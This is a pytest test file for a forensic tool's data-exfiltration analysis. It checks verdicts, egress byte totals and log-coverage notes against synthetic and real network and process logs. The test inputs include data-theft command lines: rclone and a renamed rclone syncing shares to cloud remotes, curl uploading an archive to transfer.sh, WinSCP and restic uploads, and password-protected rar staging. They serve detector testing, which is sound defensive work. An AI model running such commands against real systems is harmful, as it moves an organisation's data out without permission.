"""Data theft: egress bytes, transfer services, exfiltration tools, staging, the verdict."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from intrusion_case import FS_IP, at, logon, make_ctx, theft

from ashiato.analysis import exfiltration, identity


def _run(tmp: Path, rows: list[dict[str, Any]]) -> dict[str, Any]:
    ctx = make_ctx(tmp, rows)
    return exfiltration.analyse(ctx, identity.build(ctx))


def _proc(minutes: float, cmd: str) -> dict[str, Any]:
    return {
        "@timestamp": at(minutes),
        "event.dataset": "windows.security",
        "event.code": "4688",
        "host.name": "srv-file01",
        "process.command_line": cmd,
        "process.executable": cmd.split(" ")[0],
        "evidence_id": "sec-fs",
    }


def test_renamed_rclone_to_mega_is_likely(tmp_path: Path) -> None:
    ex = _run(tmp_path, theft())
    assert ex["verdict"] == "likely"
    assert [t["what"] for t in ex["tools"]] == ["rclone (renamed)"]
    assert ex["staging"] and "7z.exe" in ex["staging"][0]["command_line"]
    top = ex["egress"][0]
    assert (top["source_ip"], top["bytes"], top["service"]) == (FS_IP, 3_000_000_000, True)
    assert "mega.co.nz" in top["destination"]
    assert ex["services"][0]["bytes"] == 3_000_000_000
    # the squid log can't show uploads, and the answer says so
    assert ex["byte_sources"] == {
        "with_upload_size": ["fortigate.traffic"],
        "without_upload_size": ["squid.access"],
    }
    assert any("squid.access" in s and "upload size" in s for s in ex["settle"])
    assert any("rclone" in r for r in ex["reasons"])


def test_tool_shapes() -> None:
    rc = exfiltration._RCLONE
    assert rc.search("rclone.exe sync D:\\share remote:bucket --transfers 8")
    assert rc.search(
        'upd.exe copy "\\\\fs\\経理" mega:x --config c:\\u\\a.conf --no-check-certificate'
    )
    assert not rc.search("robocopy C:\\a D:\\b /MIR")
    assert not rc.search("cmd /c copy a.txt b.txt")
    tool = exfiltration._TOOL
    assert tool.search("C:\\tools\\curl.exe -T C:\\a.7z https://transfer.sh/a.7z")
    assert tool.search(
        '"C:\\Program Files\\WinSCP\\WinSCP.com" /command "open sftp://x" "put a.7z"'
    )
    assert tool.search("C:\\restic\\restic.exe -r s3:s3.wasabisys.com/b backup D:\\share")
    assert not tool.search("curl.exe https://example.com/")


def test_staging_only_is_possible(tmp_path: Path) -> None:
    rows = [_proc(0, "C:\\Program Files\\WinRAR\\rar.exe a -hpX C:\\Temp\\x.rar D:\\share")]
    ex = _run(tmp_path, rows)
    assert ex["verdict"] == "possible"
    assert ex["staging"] and not ex["tools"]
    assert any("firewall or proxy logs with bytes sent" in s for s in ex["settle"])


def test_silent_logs_cannot_rule_out(tmp_path: Path) -> None:
    rows = [r for r in theft() if r["event.dataset"] == "squid.access"]
    rows.append(_proc(0, "C:\\Windows\\System32\\notepad.exe C:\\a.txt"))
    ex = _run(tmp_path, rows)
    assert ex["verdict"] == "cannot_be_ruled_out"
    assert not ex["tools"] and not ex["egress"]


def test_no_network_and_no_process_logs_is_no_data(tmp_path: Path) -> None:
    ex = _run(tmp_path, [logon(0, "pc1", "tanaka", "10.0.7.7")])
    assert ex["verdict"] == "no_data"
    assert any("process creation logs" in s for s in ex["settle"])


@pytest.mark.corpus
def test_zeek_conn_egress_real_sample(shared: Path, tmp_path: Path) -> None:
    """Zeek conn orig_bytes summed per source and destination (checked against the file by
    awk: 192.168.33.10 → 54.230.86.87, 41 connections, 44,245 bytes sent)."""
    from ashiato.analysis.context import Context
    from ashiato.case import Case
    from ashiato.ingest import Options, ingest

    case = Case.create_or_open(tmp_path / "case", tz="UTC")
    ingest(case, [shared / "zeek-zat" / "data" / "conn.log"], Options())
    ctx = Context(events=case.ibis().table("events"), tz="UTC")
    ex = exfiltration.analyse(ctx, identity.build(ctx))
    top = ex["egress"][0]
    assert (top["source_ip"], top["destination"]) == ("192.168.33.10", "54.230.86.87")
    assert (top["bytes"], top["connections"]) == (44245, 41)
    assert ex["byte_sources"]["with_upload_size"] == ["zeek.conn"]
    # a few KB to web services, no tools: nothing shows theft, nothing rules it out
    assert ex["verdict"] == "cannot_be_ruled_out"


def test_posts_to_a_transfer_service_through_the_proxy(tmp_path: Path) -> None:
    rows = [
        {
            "@timestamp": at(i),
            "event.dataset": "bluecoat.proxy",
            "observer.type": "proxy",
            "source.ip": "10.0.7.7",
            "http.request.method": "POST",
            "url.original": "https://content.dropboxapi.com/2/files/upload",
            "url.domain": "content.dropboxapi.com",
            "evidence_id": "proxy",
        }
        for i in range(3)
    ]
    ex = _run(tmp_path, rows)
    [svc] = ex["services"]
    assert (svc["service"], svc["uploads"], svc["bytes"]) == ("content.dropboxapi.com", 3, None)
    assert ex["verdict"] == "possible"
    assert ex["byte_sources"]["without_upload_size"] == ["bluecoat.proxy"]
